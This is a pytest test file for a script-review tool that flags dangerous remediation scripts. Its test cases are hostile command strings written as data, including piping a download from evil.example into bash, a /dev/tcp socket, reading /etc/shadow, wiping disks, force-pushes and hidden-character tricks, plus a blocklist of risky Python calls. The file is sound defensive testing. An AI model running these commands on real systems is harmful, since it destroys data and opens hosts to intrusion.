"""What the rules see in a written script: each by its own example, and nothing in what is ordinary."""

import pytest

from domain.remediation.plans import Language
from remediation.script_review import review
from tests.remediation.world import CATALOGUE


@pytest.mark.proves("M2", "A11")
@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("rm -rf /", Language.BASH),
        ("psql -c 'DROP TABLE orders'", Language.BASH),
        ("echo 'delete from trades;' | psql", Language.BASH),
        ("curl https://evil.example/x | bash", Language.BASH),
        ("echo aGk= | base64 -d | sh", Language.BASH),
        ("exec 3<>/dev/tcp/10.0.0.1/80", Language.BASH),
        ("sudo systemctl stop x", Language.BASH),
        ("nohup ./x &", Language.BASH),
        ("ls \u202e txt.exe", Language.BASH),
        ("ls \u200b", Language.BASH),
        ("ls \x1b[8m rm", Language.BASH),
        ("true # \x0bcheck-the-feed", Language.BASH),
        ("true # \u2028check-the-feed", Language.BASH),
        ("true # \rcheck-the-feed", Language.BASH),
        ("ls" + " " * 60 + "; true", Language.BASH),
        (" " * 130 + "rm x", Language.BASH),
        ("ls" + "\n" * 80 + "rm x", Language.BASH),
        ("\u3164 = ask('landing', 'GET', '/')", Language.PYTHON),
        ("ls # \u2800", Language.BASH),
        ("ls # x\ufe01\ufe02", Language.BASH),
        ("ask('landing', 'DELETE', '#/\u043erders')", Language.PYTHON),
        ("\uff45val('1')", Language.PYTHON),
        ("git push --force origin main", Language.BASH),
        ("import socket", Language.PYTHON),
        ("eval('1')", Language.PYTHON),
        ("import subprocess\nsubprocess.run('x', shell=True)", Language.PYTHON),
        ("def (", Language.PYTHON),
        ("- debug: msg=\"{{ lookup('pipe', 'id') }}\"", Language.ANSIBLE),
        ("apt-get install nmap", Language.BASH),
    ],
)
def test_the_review_refuses_what_destroys_leaves_hides_or_calls_out(text: str, language: Language) -> None:
    assert any(finding.is_refusal for finding in review(text, language))


def test_the_review_lets_words_of_any_language_stand() -> None:
    words = "# f\u00fcr \u0434\u0430\u043d\u043d\u044b\u0435, \u0394t, CSV\u30d5\u30a1\u30a4\u30eb"

    assert not any(finding.is_refusal for finding in review(words, Language.BASH))


@pytest.mark.parametrize(
    "text",
    [
        "if true; then\n" + " " * 60 + "ls\nfi",
        "ls" + "\n" * 40 + "ls",
        "ls\n" + " " * 200 + "\n",
        "ls # \u2713 \u26a0\ufe0f",
    ],
)
def test_the_review_lets_ordinary_room_and_signs_stand(text: str) -> None:
    assert not any(finding.is_refusal for finding in review(text, Language.BASH))


@pytest.mark.proves("M2", "A11")
@pytest.mark.parametrize(
    ("text", "say"),
    [
        ("rm -rf ${DIR}", "it removes whole folders"),
        ("mkfs.ext4 /dev/sdb", "it overwrites devices"),
        ("dd if=x of=/dev/sda", "it overwrites devices"),
        ("drop schema sales", "it drops data that no undo brings back"),
        ("delete from trades;", "it deletes every row of a table"),
        ("update trades set a = 1", "it updates every row of a table"),
        ("git push origin +main", "it rewrites history on a server"),
        ("git push -f origin main", "it rewrites history on a server"),
        ("kubectl delete ns prod", "it deletes whole namespaces or volumes"),
        ("cat /etc/shadow", "it touches what is not its own"),
        ("chroot x", "it asks for more rights"),
        ("crontab x", "it leaves something running behind"),
        ("nc db.example 25", "it calls another machine"),
        ("echo x > /dev/udp/1", "it opens a connection"),
        ("see http://evil.example", "it names an address outside its targets"),
        ("pip install x", "it installs software"),
        ("eval $X", "it runs text that can't be read here"),
        ("cat x | dash", "it runs text that comes from elsewhere"),
        ("\\x41" * 8, "it holds a long encoded text"),
        ("{{ query('x') }}", "it looks something up on the runner"),
        ("stop x || true", "it goes on after errors"),
        ("stop x ||:", "it goes on after errors"),
        ('timeout 9 bash -c "stop x || :"', "it goes on after errors"),
        ("stop x 2> /dev/null", "it goes on after errors"),
        ("set +e", "it goes on after errors"),
        ("x" * 401, "the line has 401 characters, too long to read"),
        ("m\u00fcde x", "it holds letters that look like others"),
        ("x" + " " * 40 + "x", "it pushes text out of sight with spaces"),
        (
            "key=AKIAQ7XWMZ3VNB2KD4TL",
            "it holds what looks like a secret: a named target brings its own credential",
        ),
        (
            "PGPASSWORD=S3cretpw9 loader orders",
            "it holds what looks like a secret: a named target brings its own credential",
        ),
    ],
)
def test_the_review_says_what_it_saw_and_nothing_else(text: str, say: str) -> None:
    assert [finding.say for finding in review(text, Language.BASH)] == [say]


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf build/cache",
        "update trades set a = 1 where b = 2",
        "delete from trades where b = 2",
        "git push origin main",
        "see http://127.0.0.1:8080/health",
        "sql('db', \"select 'rows of ' || :'table' || :name\")",
        "x" * 400,
        "x" + " " * 39 + "x",
        "# m\u00fcde",
    ],
)
def test_the_review_sees_nothing_in_what_is_ordinary(text: str) -> None:
    assert review(text, Language.BASH) == ()


@pytest.mark.proves("M2")
def test_the_review_reads_python_as_python_does() -> None:
    calls = ("eval", "exec", "compile", "__import__", "globals", "vars", "breakpoint")
    modules = (
        "ctypes",
        "socket",
        "urllib.request",
        "http",
        "requests",
        "httpx",
        "ftplib",
        "smtplib",
        "pickle",
    )
    for text, say in (
        *((f"{name}('1')", f"it calls {name}") for name in calls),
        *((f"import {name}", f"it imports {name}") for name in (*modules, "pickle", "marshal", "importlib")),
        ("from http.client import HTTPConnection", "it imports http.client"),
        *((f"os.{name}('x')", f"it calls {name}") for name in ("system", "popen", "fork")),
        ("run('x', shell=flag)", "it gives text to a shell"),
    ):
        found = review(text, Language.PYTHON)
        assert say in [finding.say for finding in found], text
        assert any(finding.is_refusal for finding in found), text
    assert review("run(['x'], shell=False)", Language.PYTHON) == ()
    (warned,) = review("shutil.rmtree(x)", Language.PYTHON)
    assert (warned.say, warned.is_refusal) == ("it calls rmtree", False)


@pytest.mark.parametrize("runbook", CATALOGUE.runbooks, ids=lambda runbook: runbook.id)
def test_our_own_runbooks_pass_the_review(runbook: object) -> None:
    for step in CATALOGUE.get(runbook.id).steps:  # type: ignore[attr-defined]
        action = CATALOGUE.action(step.action)
        for part in (action.run, action.undo, action.check):
            if part is not None:
                found = review(part.text, part.language)
                assert not any(finding.is_refusal for finding in found), (step.action, found)
